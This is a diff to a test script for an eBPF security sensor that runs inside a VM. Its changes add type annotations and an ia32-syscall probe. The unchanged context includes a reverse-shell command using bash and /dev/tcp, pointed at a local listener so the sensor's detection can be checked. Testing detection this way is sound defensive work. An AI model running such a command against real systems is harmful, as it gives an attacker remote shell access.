@@ -16,6 +16,7 @@ import {
   loadBuiltinElasticRules,
   openSensor,
   probe,
+  // @ts-expect-error -- dist/ sits beside this file only in the guest's package root (/sockeye)
 } from "./dist/index.js";
 
 const BEGIN = "===SOCKEYE-VM-RESULTS-BEGIN===";
@@ -29,11 +30,12 @@ const SETTLE_MS = Number(process.env.SOCKEYE_VM_SETTLE_MS ?? 800);
 const uptime = () => Number(readFileSync("/proc/uptime", "utf8").split(" ")[0]);
 const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
 
+/** @type {Record<string, any>} the JSON the host-side test reads; grows as the run goes */
 const out = {
   kernel: os.release(),
   node: process.version,
   lsm: readOr("/sys/kernel/security/lsm"),
-  cmdline: readOr("/proc/cmdline").trim(),
+  cmdline: (readOr("/proc/cmdline") ?? "").trim(),
   uptimeAtEntry: uptime(),
   probe: null,
   programs: [],
@@ -61,13 +63,13 @@ async function catcher(path) {
     s.on("error", () => {});
     s.end("exit\n");
   });
-  await new Promise((resolve) => (path ? server.listen(path, resolve) : server.listen(0, "127.0.0.1", resolve)));
+  await /** @type {Promise<void>} */ (new Promise((resolve) => (path ? server.listen(path, resolve) : server.listen(0, "127.0.0.1", resolve))));
   return {
-    port: path ? null : server.address().port,
-    close: () => new Promise((resolve) => {
+    port: path ? null : /** @type {net.AddressInfo} */ (server.address()).port,
+    close: () => /** @type {Promise<void>} */ (new Promise((resolve) => {
       for (const s of sockets) s.destroy();
       server.close(() => resolve());
-    }),
+    })),
   };
 }
 
@@ -116,9 +118,14 @@ async function main() {
   out.probe = probe();
   // The next candidate must stand on its own too: with the LSM program skipped, fentry.
   out.probeWithoutLsm = probe({ skipCandidates: ["lsm/socket_connect"] });
+  // What an int $0x80 really does in this kernel, asked by a process of the suite's own (exit 0:
+  // taken; SIGSEGV: refused), for the host to hold the sensor's own probe against.
+  const ia32 = await run(IA32_HELPER, ["getpid", "0"]);
+  out.ia32Getpid = { status: ia32.status, signal: ia32.signal };
 
   // With ia32 syscalls watched: the 6.1 verifier must take that program too, the cases below
   // must not be reported twice (each expects exactly one finding), and the ia32 ones are seen.
+  // On a kernel that refuses ia32 syscalls the sensor must still start, loading nothing for them.
   const sensor = await openSensor({ compatSyscalls: true });
   out.programs = sensor.programs;
   out.features = sensor.features;
@@ -184,7 +191,8 @@ async function main() {
     `setsid bash -c 'bash -i >& /dev/tcp/${ip}/${p} 0>&1'; true`,
   ]);
   // ia32 syscalls through int $0x80: the dup by the compat program; the connect by the LSM or
-  // fentry program, which see every connect (the compat program leaves connect to them).
+  // fentry program, which see every connect (the compat program leaves connect to them). On a
+  // kernel that refuses them the helper dies with SIGSEGV at its first int $0x80.
   await scenario("ia32-dup2-fd1", "TRC-101", (p) => [IA32_HELPER, "dup2", String(p)]);
   await scenario("ia32-connect-fd0", "TRC-101", (p) => [IA32_HELPER, "connect", String(p)]);
   // Negatives: each must give no finding at all.
@@ -205,7 +213,8 @@ async function main() {
 try {
   await main();
 } catch (err) {
-  out.error = { message: err?.message ?? String(err), code: err?.code ?? null };
+  const e = /** @type {{ message?: string, code?: string } | undefined} */ (err);
+  out.error = { message: e?.message ?? String(err), code: e?.code ?? null };
 }
 out.uptimeAtExit = uptime();
 process.stdout.write(`\n${BEGIN}\n${JSON.stringify(out)}\n${END}\n`);
